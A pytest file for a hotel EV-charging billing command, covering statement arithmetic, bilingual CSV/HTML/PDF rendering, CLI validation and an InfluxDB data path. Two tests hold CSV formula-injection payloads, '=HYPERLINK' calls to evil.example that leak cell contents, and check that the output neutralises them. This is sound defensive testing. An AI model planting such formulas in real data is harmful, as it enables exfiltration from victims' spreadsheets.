"""Guest billing: statement arithmetic (pure), CSV/HTML (FR, EN), and `irve bill` on data that
went through the live energy/session code into a real influxd.

The helpers `Charge`, `scripted_messages` and `site_file` (tests/support/billing_helpers.py)
are shared with test_recompute.py and test_compare.py.
"""

from __future__ import annotations

import csv
import io
import shutil
import subprocess
from collections.abc import Iterator
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from collector.billing.render import csv_cell, to_csv, to_html
from collector.billing.statement import (
    Hotel,
    Policy,
    SessionUse,
    Stay,
    make_statement,
    money,
    statement_number,
)
from collector.cli import main
from collector.config import InfluxSettings, SiteConfig
from collector.desk.statements import stay_statement
from collector.desk.storage import StayRow
from collector.ingest.writer import HttpV1Backend
from collector.settings import ConfigError, load
from collector.store.influxql import InfluxQL, InfluxQLError, quote_string, time_literal
from collector.wire.kinds import kind_of
from collector.wire.messages import SessionMessage
from tests.support import servers
from tests.support.billing_helpers import (
    GUEST_CHARGES,
    HOTEL_BLOCK,
    PARIS,
    SITE_ID,
    Charge,
    local,
    scripted_messages,
    site_file,
    to_lines,
)
from tests.support.influx_db import create_database, rows

# ---- pure: statement arithmetic ---------------------------------------------------------------


def use(sid: str, start: datetime, **periods: tuple[float, float]) -> SessionUse:
    return SessionUse(sid, "cp1", "room-12", start, 3600.0, dict(periods))


STAY = Stay("12", date(2026, 1, 10), date(2026, 1, 12))
# 10.5 kWh HP + 10.5 kWh HC, then 3.5 + 3.5, costs unrounded as the collector sends them.
S1 = use("s1", local(2026, 1, 10, 20, 30), HP=(10500.0, 2.5473), HC=(10500.0, 1.9194))
S2 = use("s2", local(2026, 1, 11, 5, 0), HC=(3500.0, 0.6398), HP=(3500.0, 0.8491))


def test_money_rounds_half_up_once_without_float_noise() -> None:
    assert money(6.065) == Decimal("6.07")  # the guide's 25 kWh at 0.2426
    assert money(25 * 0.2426) == Decimal("6.07")  # 6.0649999999999995 in binary
    assert money(1.4624) == Decimal("1.46")
    assert money(0.004999) == Decimal("0.00")


def test_at_cost_one_line_per_session_and_period_rounded_once() -> None:
    st = make_statement(STAY, [S2, S1], Policy("at_cost"))
    assert [(line.session_id, line.period) for line in st.lines] == [
        ("s1", "HP"),
        ("s1", "HC"),
        ("s2", "HP"),
        ("s2", "HC"),
    ]
    assert [line.amount_eur for line in st.lines] == [
        Decimal("2.55"),
        Decimal("1.92"),
        Decimal("0.85"),
        Decimal("0.64"),
    ]
    assert st.total_eur == Decimal("5.96")  # the sum of the lines, not round(5.9556)
    assert st.lines[0].unit_price == Decimal("0.2426")
    assert st.energy_kwh == Decimal("28.000") and st.billed_kwh == Decimal("28.000")


def test_flat_fee_per_session_whatever_it_drew() -> None:
    st = make_statement(STAY, [S1, S2], Policy("flat", fee_eur=Decimal("5")))
    assert [(line.period, line.amount_eur) for line in st.lines] == [
        (None, Decimal("5.00")),
        (None, Decimal("5.00")),
    ]
    assert st.total_eur == Decimal("10.00")


def test_allowance_per_night_used_in_order_excess_at_cost() -> None:
    # 2 nights x 8 kWh = 16 kWh: all taken by s1 (21 kWh), half from HP and half from HC.
    st = make_statement(STAY, [S1, S2], Policy("allowance", kwh_per_night=Decimal("8")))
    s1 = [line for line in st.lines if line.session_id == "s1"]
    assert [(line.included_kwh, line.billed_kwh) for line in s1] == [
        (Decimal("8.000"), Decimal("2.500")),
        (Decimal("8.000"), Decimal("2.500")),
    ]
    # 2.5 x 0.2426 = 0.6065 -> 0.61; 2.5 x 0.1828 = 0.457 -> 0.46; s2 billed whole.
    assert [line.amount_eur for line in st.lines] == [
        Decimal("0.61"),
        Decimal("0.46"),
        Decimal("0.85"),
        Decimal("0.64"),
    ]
    assert st.total_eur == Decimal("2.56")
    assert st.included_kwh == Decimal("16.000") and st.billed_kwh == Decimal("12.000")


def test_allowance_larger_than_use_bills_nothing() -> None:
    long_stay = Stay("12", date(2026, 1, 10), date(2026, 1, 15))
    st = make_statement(long_stay, [S1, S2], Policy("allowance", kwh_per_night=Decimal("8")))
    assert st.total_eur == Decimal("0.00")
    assert st.included_kwh == Decimal("28.000")


def test_reconciliation_warning_when_meter_disagrees() -> None:
    assert make_statement(STAY, [S1, S2], Policy(), meter_wh=28000.4).warnings == []
    (warning,) = make_statement(STAY, [S1, S2], Policy(), meter_wh=30000.0).warnings
    assert "28.000 kWh" in warning and "30.000 kWh" in warning


def test_same_day_stay_counts_one_night() -> None:
    assert Stay("x", date(2026, 1, 10), date(2026, 1, 10)).nights == 1


# ---- pure: rendering --------------------------------------------------------------------------

HOTEL = Hotel(
    "Hôtel <Test>",
    "12 rue de la Gare\n59650 Villeneuve-d'Ascq",
    "732 829 320 00074",
    "FR 12 732829320",
    Decimal("0.20"),
)
LABELS = {"cp1": "Borne 1", "cp2": "Borne 2"}


def statement(policy: Policy, meter_wh: float | None = None, hotel: Hotel = HOTEL) -> Any:
    return make_statement(
        STAY,
        [S1, S2],
        policy,
        meter_wh,
        labels=LABELS,
        hotel=hotel,
        number=statement_number(SITE_ID, STAY),
        issued=date(2026, 1, 12),
    )


def parse_csv(text: str, lang: str = "fr") -> list[list[str]]:
    """The CSV read back as a spreadsheet reads it."""
    return list(csv.reader(io.StringIO(text), delimiter=";" if lang == "fr" else ","))


def test_csv_french_and_english() -> None:
    st = statement(Policy("allowance"))
    fr = to_csv(st, "fr", PARIS).splitlines()
    assert fr[0] == (
        "Recharge;Borne;Début;Fin;Durée;Période;Énergie (kWh);Inclus (kWh);Facturé (kWh);"
        "Prix TTC (€/kWh);Montant TTC (€);Référence"
    )
    assert fr[1] == (
        "1;Borne 1;10/01/2026 20:30;10/01/2026 21:30;1 h 00 min;Heures pleines;"
        "10,500;8,000;2,500;0,2426;0,61;s1"
    )
    assert fr[-2] == "Total TTC;;;;;;28,000;16,000;12,000;;2,56;"
    assert fr[-1] == "dont TVA 20 %;;;;;;;;;;0,43;"  # 2.56 - 2.56 / 1.2 = 0.4267
    en = to_csv(st, "en", PARIS).splitlines()
    assert en[0].startswith("Charge,Charger,Start,End,Duration,Period,Energy (kWh)")
    assert en[2] == (
        "1,Borne 1,2026-01-10 20:30,2026-01-10 21:30,1 h 00 min,Off-peak hours,"
        "10.500,8.000,2.500,0.1828,0.46,s1"
    )
    assert en[-2] == "Total incl. VAT,,,,,,28.000,16.000,12.000,,2.56,"


def test_columns_follow_the_policy() -> None:
    at_cost = parse_csv(to_csv(statement(Policy("at_cost")), "fr", PARIS))
    assert "Inclus (kWh)" not in at_cost[0] and "Prix TTC (€/kWh)" in at_cost[0]
    assert at_cost[-2][-3:] == ["", "5,96", ""]
    flat = parse_csv(to_csv(statement(Policy("flat", fee_eur=Decimal("5"))), "fr", PARIS))
    assert flat[0] == [
        "Recharge",
        "Borne",
        "Début",
        "Fin",
        "Durée",
        "Énergie (kWh)",
        "Montant TTC (€)",
        "Référence",
    ]
    assert flat[-2] == ["Total TTC", "", "", "", "", "28,000", "10,00", ""]
    assert flat[-1][-2] == "1,67"  # 10 / 1.2 = 8.33 before tax


def test_printed_columns_add_up_under_allowance() -> None:
    """Each column's total is the sum of its printed lines, and on every line included +
    billed = energy as printed, even where rounding each figure apart would not agree."""
    odd = [
        use("a", local(2026, 1, 10, 20), HP=(1000.4, 0.2427), HC=(1000.4, 0.1829)),
        use("b", local(2026, 1, 11, 8), HP=(2333.3, 0.566)),
    ]
    st = make_statement(STAY, odd, Policy("allowance", kwh_per_night=Decimal("0.7")))
    rows = parse_csv(to_csv(st, "en", PARIS), "en")
    lines, total = rows[1:-2], rows[-2]
    for col in (6, 7, 8, 10):
        assert sum(Decimal(r[col]) for r in lines) == Decimal(total[col])
    for r in lines:
        assert Decimal(r[7]) + Decimal(r[8]) == Decimal(r[6])


def test_vat_included_from_the_configured_rate() -> None:
    reduced = statement(Policy("at_cost"), hotel=Hotel("H", vat_rate=Decimal("0.055")))
    assert reduced.vat_eur == Decimal("0.31")  # 5.96 x 0.055 / 1.055 = 0.3107
    assert parse_csv(to_csv(reduced, "fr", PARIS))[-1][0] == "dont TVA 5,5 %"
    none = statement(Policy("at_cost"), hotel=Hotel("H", vat_rate=Decimal("0")))
    assert parse_csv(to_csv(none, "fr", PARIS))[-1][0] == "Total TTC"


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_neutralises_formulas_in_text_cells(start: str) -> None:
    """A session id or socket label a spreadsheet would run as a formula is read as text
    (OWASP: a leading quote); the numbers stay numbers."""
    formula = f'{start}HYPERLINK("http://evil.example/?"&A1,"x")'
    hostile = SessionUse(
        formula, "cp1", "x", local(2026, 1, 10, 20), 60.0, {"HP": (1000.0, 0.2426)}
    )
    st = make_statement(STAY, [hostile], Policy("at_cost"), labels={"cp1": formula})
    for lang in ("fr", "en"):
        rows = parse_csv(to_csv(st, lang, PARIS), lang)
        cells = [cell for row in rows for cell in row]
        assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
        assert rows[1][1] == rows[1][-1] == "'" + formula
        assert Decimal(rows[1][-2].replace(",", ".")) == Decimal("0.24")
        assert Decimal(rows[1][6].replace(",", ".")) == Decimal("1.000")
    assert csv_cell("12,5") == "12,5" and csv_cell("Borne 1") == "Borne 1"


def test_html_statement_french_and_english_escaped() -> None:
    st = statement(Policy("flat", fee_eur=Decimal("4.5")), meter_wh=28000)
    fr = to_html(st, "fr", PARIS)
    assert '<html lang="fr">' in fr and "Relevé de recharge" in fr
    assert "Hôtel &lt;Test&gt;" in fr and "<Test>" not in fr
    assert "12 rue de la Gare<br>59650 Villeneuve-d&#x27;Ascq" in fr
    assert "SIRET 732 829 320 00074" in fr and "N° TVA FR 12 732829320" in fr
    assert f"N° {statement_number(SITE_ID, STAY)}" in fr and "Émis le 12/01/2026" in fr
    assert "Chambre 12" in fr and "Séjour du 10/01/2026 au 12/01/2026 (2 nuits)" in fr
    assert "<b>1</b> · Borne 1<br>10/01/2026 20:30 – 21:30<br>1 h 00 min" in fr
    assert "cp1" not in fr and "s1" not in fr  # no internal ids for the guest
    assert "Forfait de 4,50 € TTC par recharge" in fr
    assert "Inclus" not in fr and "Prix TTC" not in fr  # not on a flat fee
    assert '<td class="num">9,00</td></tr>' in fr  # the total row
    assert "dont TVA 20 %" in fr and '<td class="num">1,50</td>' in fr
    assert "Relevé du compteur sur ces recharges : 28,000 kWh." in fr
    en = to_html(st, "en", PARIS)
    assert '<html lang="en">' in en and "Flat fee of €4.50 per charge, VAT included" in en
    assert '<td class="num">9.00</td></tr>' in en and "of which VAT 20 %" in en
    disagreeing = statement(Policy(), meter_wh=30000)
    assert disagreeing.warnings and "30.000" not in to_html(disagreeing, "fr", PARIS)
    at_cost = to_html(statement(Policy()), "fr", PARIS)
    assert "Inclus" not in at_cost and "Prix TTC (€/kWh)" in at_cost
    empty = to_html(make_statement(STAY, [], Policy()), "en", PARIS)
    assert "No charging during this stay." in empty


def test_statement_number_is_stable_and_unique() -> None:
    number = statement_number(SITE_ID, STAY)
    assert number.startswith("RC-20260110-") and number == statement_number(SITE_ID, STAY)
    others = {
        statement_number("other-site", STAY),
        statement_number(SITE_ID, Stay("14", STAY.arrival, STAY.departure)),
        statement_number(SITE_ID, Stay("12", STAY.arrival, STAY.departure, "badge")),
        statement_number(SITE_ID, Stay("12", STAY.arrival, date(2026, 1, 13))),
        statement_number(
            SITE_ID,
            Stay(
                "12",
                STAY.arrival,
                STAY.departure,
                start=local(2026, 1, 10, 15),
                end=local(2026, 1, 12, 11),
            ),
        ),
    }
    assert number not in others and len(others) == 5


@pytest.mark.parametrize(
    ("hotel", "message"),
    [
        (
            {"siret": "732 829 320 00075"},
            "hotel.siret: '732 829 320 00075': not a valid SIRET",
        ),
        ({"siret": "12345"}, "hotel.siret: '12345': a SIRET is 14 digits"),
        ({"vat_number": "12 345"}, "hotel.vat_number"),
        ({"vat_rate": 20}, "hotel.vat_rate: must be 0..1"),
        ({"adress": "x"}, "hotel.adress"),
    ],
)
def test_hotel_block_is_validated(tmp_path: Path, hotel: dict[str, Any], message: str) -> None:
    with pytest.raises(ConfigError) as caught:
        load(SiteConfig, site_file(tmp_path, hotel=hotel))
    assert message in str(caught.value)
    good = {"address": "1 rue X", "siret": "73282932000074", "vat_number": "FR12732829320"}
    assert load(SiteConfig, site_file(tmp_path, hotel=good)).hotel.vat_rate == 0.20


# ---- command line: bad arguments --------------------------------------------------------------


@pytest.mark.parametrize(
    ("extra", "message"),
    [
        ([], "--room/--badge/--point"),
        (["--room", "12", "--arrival", "10/01/2026"], "--arrival: '10/01/2026'"),
        (["--room", "12", "--departure", "2026-01-09"], "--departure: must be after"),
        (["--room", "12", "--fee", "-1", "--policy", "flat"], "--fee: must be >= 0"),
        (
            ["--room", "12", "--kwh-per-night", "eight", "--policy", "allowance"],
            "--kwh-per-night: 'eight'",
        ),
        (["--room", "12", "--policy", "flat"], "--fee: required with --policy flat"),
        (["--room", "12", "--fee", "5"], "--fee: only with --policy flat, not at-cost"),
        (
            ["--room", "12", "--fee", "5", "--policy", "allowance"],
            "--fee: only with --policy flat, not allowance",
        ),
        (
            ["--room", "12", "--kwh-per-night", "8", "--policy", "flat", "--fee", "5"],
            "--kwh-per-night: only with --policy allowance, not flat",
        ),
        (["--point", "cp9"], "--point: no meter 'cp9' in the site file (cp1, cp2)"),
        (["--badge", "room\n12"], "--badge: contains '\\n': control characters and backslash"),
        (["--room", "1\t2"], "--room: contains '\\t'"),
        (["--badge", "a\\b"], "--badge: contains '\\\\'"),
        (["--badge", "x" * 65], "--badge: has 65 characters, at most 64 allowed"),
        (["--room", "   "], "--room: must not be blank"),
    ],
)
def test_bad_arguments_exit_2_naming_the_field(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], extra: list[str], message: str
) -> None:
    path = site_file(tmp_path)
    argv = ["bill", "-c", str(path), "--arrival", "2026-01-10", "--departure", "2026-01-12"]
    assert main(argv + extra) == 2
    assert message in capsys.readouterr().err


def test_help_says_the_allowance_default(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["bill", "--help"]) == 0
    text = " ".join(capsys.readouterr().out.split())
    assert "--policy allowance only; default 8" in text
    assert "required with --policy flat" in text


def test_unknown_policy_exits_2(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    argv = ["bill", "-c", str(site_file(tmp_path)), "--room", "12", "--arrival", "2026-01-10"]
    assert main([*argv, "--departure", "2026-01-12", "--policy", "free"]) == 2
    assert "--policy" in capsys.readouterr().err


def test_database_down_exits_1(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = site_file(tmp_path, influx_port=servers.free_port())
    argv = ["bill", "-c", str(path), "--room", "12"]
    assert main([*argv, "--arrival", "2026-01-10", "--departure", "2026-01-12"]) == 1
    assert "cannot connect" in capsys.readouterr().err


# ---- real data path: live energy/session code -> line protocol -> influxd -> irve bill -------


@pytest.fixture(scope="module")
def influx_module(tmp_path_factory: pytest.TempPathFactory) -> Iterator[servers.Server]:
    server = servers.influxd(tmp_path_factory.mktemp("influxd"))
    server.start()
    yield server
    server.stop()


@pytest.fixture(scope="module")
def billed_site(tmp_path_factory: pytest.TempPathFactory, influx_module: servers.Server) -> Path:
    """Written once for the module's tests, which only read it."""
    influx = influx_module
    create_database(influx)
    path = site_file(tmp_path_factory.mktemp("site"), influx.port, hotel=HOTEL_BLOCK)
    site = load(SiteConfig, path)
    body = to_lines(
        scripted_messages(site, GUEST_CHARGES, local(2026, 1, 10, 12, 0), local(2026, 1, 12, 11, 0))
    )
    backend = HttpV1Backend(site.influx)
    for i in range(0, len(body), 5000):
        backend.write("\n".join(body[i : i + 5000]))
    backend.close()
    return path


def bill(path: Path, tmp_path: Path, *extra: str) -> list[list[str]]:
    """`irve bill` to a CSV file, read back as a spreadsheet would."""
    out = tmp_path / "bill.csv"
    argv = ["bill", "-c", str(path), "--arrival", "2026-01-10", "--departure", "2026-01-12"]
    assert main([*argv, "--csv", str(out), *extra]) == 0
    assert out.read_bytes().startswith(b"\xef\xbb\xbf")  # UTF-8 BOM, for Excel
    return parse_csv(out.read_text(encoding="utf-8-sig"), "en" if "en" in extra else "fr")


def index_difference_wh(influx: servers.Server, point: str) -> float:
    found = rows(
        influx,
        f"SELECT first(energy_wh), last(energy_wh) FROM reading WHERE point = '{point}' "
        "AND time >= '2026-01-09T23:00:00Z' AND time < '2026-01-12T23:00:00Z'",
    )
    return float(found[0]["last"] - found[0]["first"])


def test_bill_each_policy_on_real_data(
    billed_site: Path,
    influx_module: servers.Server,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
) -> None:
    at_cost = bill(billed_site, tmp_path, "--room", "12", "--lang", "en")
    assert [row[5:-1] for row in at_cost[1:-2]] == [
        ["Peak hours", "10.500", "0.2426", "2.55"],
        ["Off-peak hours", "10.500", "0.1828", "1.92"],
        ["Peak hours", "3.500", "0.2426", "0.85"],
        ["Off-peak hours", "3.500", "0.1828", "0.64"],
    ]
    assert at_cost[-2] == ["Total incl. VAT", "", "", "", "", "", "28.000", "", "5.96", ""]
    assert at_cost[-1][-2] == "0.99"  # 5.96 - 5.96 / 1.2 = 0.9933
    assert at_cost[1][:5] == [
        "1",
        "Borne 1",
        "2026-01-10 20:29",
        "2026-01-10 23:30",
        "3 h 01 min",
    ]
    assert at_cost[1][-1] == "cp1-20260110T192930Z"
    assert at_cost[3][:3] == ["2", "Borne 2", "2026-01-11 04:59"]
    flat = bill(billed_site, tmp_path, "--room", "12", "--policy", "flat", "--fee", "5")
    assert flat[-2][-3:] == ["28,000", "10,00", ""]
    allowance = bill(
        billed_site, tmp_path, "--room", "12", "--policy", "allowance", "--kwh-per-night", "8"
    )
    assert allowance[-2][-6:] == ["28,000", "16,000", "12,000", "", "2,56", ""]
    other = bill(billed_site, tmp_path, "--room", "14")
    assert other[-2][-4:] == ["7,000", "", "1,70", ""]  # 7 kWh HP: 1.6982
    assert "warning" not in capsys.readouterr().err  # windows over the sessions agree

    # Every kWh the meters counted over the stay is on exactly one guest's statement.
    metered = sum(index_difference_wh(influx_module, point) for point in ("cp1", "cp2"))
    assert metered == pytest.approx(28000 + 7000, abs=0.01)


def test_allowance_without_kwh_per_night_says_the_default(
    billed_site: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    allowance = bill(billed_site, tmp_path, "--room", "12", "--policy", "allowance")
    assert allowance[-2][-6:] == ["28,000", "16,000", "12,000", "", "2,56", ""]
    err = capsys.readouterr().err
    assert "--kwh-per-night not given: 8 kWh per night (the default)" in err


def test_bill_takes_badge_and_room_as_the_collector_keeps_them(
    billed_site: Path, tmp_path: Path
) -> None:
    """Surrounding spaces (and a pasted line end) are removed, as the collector does."""
    padded = bill(billed_site, tmp_path, "--room", " 12\r\n")
    assert padded == bill(billed_site, tmp_path, "--room", "12")
    assert padded[-2][0] == "Total TTC" and "5,96" in padded[-2]


def test_bill_by_point_and_printable_html(billed_site: Path, tmp_path: Path) -> None:
    page = tmp_path / "statement.html"
    csv = bill(billed_site, tmp_path, "--point", "cp1", "--html", str(page))
    assert len(csv) == 1 + 3 + 2  # room 12's HP and HC lines, room 14's HP line, totals
    assert csv[-2][-4:] == ["28,000", "", "6,17", ""]  # 2.55 + 1.92 + 1.70
    html = page.read_text(encoding="utf-8")
    assert "Relevé de recharge" in html and "Relevé du compteur sur ces recharges : 28,000" in html
    assert '<div class="who">Borne 1</div>' in html


def test_bill_to_an_unwritable_place_exits_1(
    billed_site: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    argv = ["bill", "-c", str(billed_site), "--room", "12", "--arrival", "2026-01-10"]
    html = tmp_path / "missing" / "statement.html"
    assert main([*argv, "--departure", "2026-01-12", "--html", str(html)]) == 1
    assert "cannot write the statement" in capsys.readouterr().err


@pytest.mark.parametrize("who", [["--badge", "nobody"], ["--room", "99"]])
def test_bill_for_a_stay_without_sessions_exits_1_and_writes_nothing(
    billed_site: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str], who: list[str]
) -> None:
    out, page = tmp_path / "bill.csv", tmp_path / "bill.html"
    argv = ["bill", "-c", str(billed_site), "--arrival", "2026-01-10", "--departure", "2026-01-12"]
    assert main([*argv, *who, "--csv", str(out), "--html", str(page)]) == 1
    captured = capsys.readouterr()
    assert f"no ended charging session for {who[0][2:]} {who[1]!r}" in captured.err
    assert "no statement written" in captured.err
    assert captured.out == "" and not out.exists() and not page.exists()


def test_bill_csv_with_hostile_session_id_is_safe_in_a_spreadsheet(
    billed_site: Path, influx_module: servers.Server, tmp_path: Path
) -> None:
    """A session stored with a formula as its id (anything that can write to the database)
    comes out of `irve bill` as text in every cell; amounts are still numbers."""
    formula = '=HYPERLINK(""http://evil.example"",""x"")'
    backend = HttpV1Backend(load(SiteConfig, billed_site).influx)
    ts = int(local(2026, 1, 20, 10).timestamp() * 1000)
    backend.write(
        f"session,site={SITE_ID},point=cp2,badge=@evil energy_wh=1000.0,cost_eur=0.2426,"
        f"energy_hp_wh=1000.0,cost_hp_eur=0.2426,duration_s=600.0,max_power_w=6000.0,"
        f'session_id="{formula.replace(chr(34) * 2, chr(92) + chr(34))}",event="end" {ts}'
    )
    backend.close()
    out = tmp_path / "bill.csv"
    argv = ["bill", "-c", str(billed_site), "--badge", "@evil", "--csv", str(out)]
    assert main([*argv, "--arrival", "2026-01-20", "--departure", "2026-01-21"]) == 0
    table = parse_csv(out.read_text(encoding="utf-8-sig"))
    cells = [cell for row in table for cell in row]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert table[1][-1] == "'" + formula.replace('""', '"')
    assert Decimal(table[1][-2].replace(",", ".")) == Decimal("0.24")


def test_bill_without_pango_says_what_is_missing_and_writes_nothing(
    billed_site: Path,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """A box without Pango (cannot be had here with it installed: WeasyPrint's import error
    is stood in for)."""

    def no_pango(*_: object) -> bytes:
        raise OSError("cannot load library 'libpango-1.0-0'")

    monkeypatch.setattr("collector.commands.bill.to_pdf", no_pango)
    out, pdf = tmp_path / "s.csv", tmp_path / "s.pdf"
    argv = ["bill", "-c", str(billed_site), "--room", "12", "--arrival", "2026-01-10"]
    assert main([*argv, "--departure", "2026-01-12", "--csv", str(out), "--pdf", str(pdf)]) == 1
    assert "WeasyPrint needs the Pango library" in capsys.readouterr().err
    assert not out.exists() and not pdf.exists()


@pytest.mark.process
def test_pdf_statement_totals_match_to_the_cent(billed_site: Path, tmp_path: Path) -> None:
    """The PDF (WeasyPrint) read back by pdftotext carries the hotel, the statement number,
    the socket labels and the same totals as the CSV, to the cent; the HTML renders in
    headless Chromium."""
    pdf, page, out = tmp_path / "s.pdf", tmp_path / "s.html", tmp_path / "s.csv"
    argv = ["bill", "-c", str(billed_site), "--room", "12", "--policy", "allowance"]
    argv += ["--kwh-per-night", "8", "--arrival", "2026-01-10", "--departure", "2026-01-12"]
    assert main([*argv, "--pdf", str(pdf), "--html", str(page), "--csv", str(out)]) == 0
    table = parse_csv(out.read_text(encoding="utf-8-sig"))
    total, vat = table[-2][-2], table[-1][-2]
    assert (total, vat) == ("2,56", "0,43")
    text = subprocess.run(
        ["pdftotext", "-layout", str(pdf), "-"], capture_output=True, text=True, check=True
    ).stdout
    words = " ".join(text.split())
    assert "Hôtel <Test>" in words and "59650 Villeneuve-d'Ascq" in words
    assert "SIRET 732 829 320 00074" in words
    stay = Stay("12", date(2026, 1, 10), date(2026, 1, 12), "room")
    number = statement_number(
        SITE_ID,
        Stay(
            stay.label, stay.arrival, stay.departure, "room", local(2026, 1, 10), local(2026, 1, 13)
        ),
    )
    assert f"N° {number}" in words and "Chambre 12" in words
    assert "Borne 1" in words and "Borne 2" in words and "cp1" not in words
    assert f"Total TTC 28,000 16,000 12,000 {total}" in words
    assert f"dont TVA 20 % {vat}" in words
    amounts = [Decimal(row[-2].replace(",", ".")) for row in table[1:-2]]
    for amount in amounts:
        assert str(amount).replace(".", ",") in words
    assert sum(amounts) == Decimal(total.replace(",", "."))

    chromium = shutil.which("chromium")
    assert chromium, "Debian package chromium (.ci/run installs it)"
    shot, printed = tmp_path / "shot.png", tmp_path / "chromium.pdf"
    flags = ["--headless", "--no-sandbox", "--disable-gpu", "--window-size=900,1200"]
    subprocess.run(
        [chromium, *flags, f"--screenshot={shot}", page.as_uri()],
        capture_output=True,
        check=True,
        timeout=120,
    )
    assert shot.read_bytes()[:8] == b"\x89PNG\r\n\x1a\n" and shot.stat().st_size > 10_000
    subprocess.run(
        [chromium, *flags, f"--print-to-pdf={printed}", page.as_uri()],
        capture_output=True,
        check=True,
        timeout=120,
    )
    printed_text = subprocess.run(
        ["pdftotext", "-layout", str(printed), "-"], capture_output=True, text=True, check=True
    ).stdout
    assert f"Total TTC 28,000 16,000 12,000 {total}" in " ".join(printed_text.split())


# ---- the InfluxQL client the billing commands read with ---------------------------------------


def test_influxql_quotes_literals_and_reports_errors(influx_module: servers.Server) -> None:
    create_database(influx_module)
    client = InfluxQL(f"http://127.0.0.1:{influx_module.port}", "irve")
    backend = HttpV1Backend(InfluxSettings(url=client.url, api_version="1"))
    backend.write("quoting,badge=l'annexe\\ 3 v=1.0 1000")
    backend.close()
    badge = quote_string("l'annexe 3")
    (series,) = client.query(
        f"SELECT v FROM quoting WHERE badge = {badge} "
        f"AND time >= {time_literal(datetime(1970, 1, 1, tzinfo=UTC))}"
    )
    assert series.rows() == [{"time": datetime(1970, 1, 1, 0, 0, 1, tzinfo=UTC), "v": 1}]
    assert client.query("SELECT v FROM quoting WHERE badge = 'nobody'") == []
    with pytest.raises(InfluxQLError, match="error parsing query"):
        client.query("SELEC nothing")
    with pytest.raises(ValueError, match="naive"):
        time_literal(datetime(2026, 1, 1))


# ---- property: the statement never loses or invents energy or money ----------------------------

session_periods = st.dictionaries(
    st.sampled_from(["HP", "HC", "BASE"]),
    st.tuples(st.floats(0, 80_000), st.floats(0.05, 0.8)).map(
        lambda ep: (ep[0], ep[0] / 1000 * ep[1])  # (Wh, EUR) at a price of 0.05..0.8 EUR/kWh
    ),
    min_size=1,
)


@settings(max_examples=200, deadline=None)
@example(  # allowance - remaining lost the digits of a tiny energy: included is now summed
    periods=[{"HP": (1.645231318026207e-07, 8.2e-11), "HC": (1.645231318026207e-07, 8.2e-11)}],
    per_night=Decimal("1.2"),
    nights=14,
)
@given(
    periods=st.lists(session_periods, max_size=6),
    per_night=st.decimals(0, 30, places=1),
    nights=st.integers(1, 14),
)
def test_statement_adds_up(
    periods: list[dict[str, tuple[float, float]]], per_night: Decimal, nights: int
) -> None:
    sessions = [
        use(f"s{i}", local(2026, 1, 10) + timedelta(hours=i), **p) for i, p in enumerate(periods)
    ]
    stay = Stay("x", date(2026, 1, 10), date(2026, 1, 10) + timedelta(days=nights))
    energy = sum(s.energy_wh for s in sessions)
    exact = sum(c for s in sessions for _, c in s.periods.values())
    at_cost = make_statement(stay, sessions, Policy("at_cost"))
    assert at_cost.total_eur == sum(line.amount_eur for line in at_cost.lines)
    assert abs(float(at_cost.total_eur) - exact) <= 0.005 * len(at_cost.lines) + 1e-9
    allowance = make_statement(stay, sessions, Policy("allowance", kwh_per_night=per_night))
    assert allowance.included_wh == pytest.approx(min(energy, float(per_night) * 1000 * nights))
    for line in allowance.lines:  # as printed: included + billed = energy, exactly
        assert line.included_kwh + line.billed_kwh == line.energy_kwh
        assert Decimal("0") <= line.amount_eur
    assert allowance.energy_kwh == sum(line.energy_kwh for line in allowance.lines)
    assert allowance.included_kwh == sum(line.included_kwh for line in allowance.lines)
    assert allowance.billed_kwh == sum(line.billed_kwh for line in allowance.lines)
    assert allowance.total_eur <= at_cost.total_eur + Decimal("0.01") * len(at_cost.lines)


# ---- OCPP sessions carry the room: irve bill --room and the desk's statement -----------------

# A week after the charges above: room 12's guest charges with a card that reception later
# replaced (04A1B2C3, then 04D5E6F7), room 14 with its own card. The chargers' central system
# tagged each session with the room the desk's badge list gave its card.
ROOM_OF_CARD = {"04A1B2C3": "12", "04D5E6F7": "12", "04C0FFEE": "14"}
OCPP_CHARGES = [
    Charge("cp1", local(2026, 1, 20, 18, 0), local(2026, 1, 20, 21, 0), 7000.0, "04A1B2C3"),
    Charge("cp2", local(2026, 1, 21, 8, 0), local(2026, 1, 21, 9, 30), 3500.0, "04D5E6F7"),
    Charge("cp1", local(2026, 1, 21, 10, 0), local(2026, 1, 21, 11, 0), 7000.0, "04C0FFEE"),
]


def test_bill_room_takes_the_room_tag_and_the_desk_statement_agrees_to_the_cent(
    billed_site: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    site = load(SiteConfig, billed_site)
    charges = [card_shown_first(c) for c in OCPP_CHARGES]
    produced = scripted_messages(site, charges, local(2026, 1, 20, 12, 0), local(2026, 1, 21, 12))
    lines = []
    for item, _ in produced:
        message = item.message
        if isinstance(message, SessionMessage) and message.badge:
            message = message.model_copy(update={"room": ROOM_OF_CARD[message.badge]})
        to_line = kind_of(message).to_line
        if item.kind in ("state", "energy", "session") and to_line is not None:
            line = to_line(SITE_ID, item.point or "", message, 0)
            if line is not None:
                lines.append(line)
    assert sum(",room=12" in line for line in lines) == 4  # start and end of two sessions
    backend = HttpV1Backend(site.influx)
    backend.write("\n".join(lines))
    backend.close()

    argv = ["bill", "-c", str(billed_site), "--room", "12", "--arrival", "2026-01-20T15:00"]
    out = tmp_path / "room.csv"
    assert main([*argv, "--departure", "2026-01-22T11:00", "--csv", str(out)]) == 0
    billed = parse_csv(out.read_text(encoding="utf-8-sig"))
    # Both cards' sessions, not room 14's, though no badge named after the room was used.
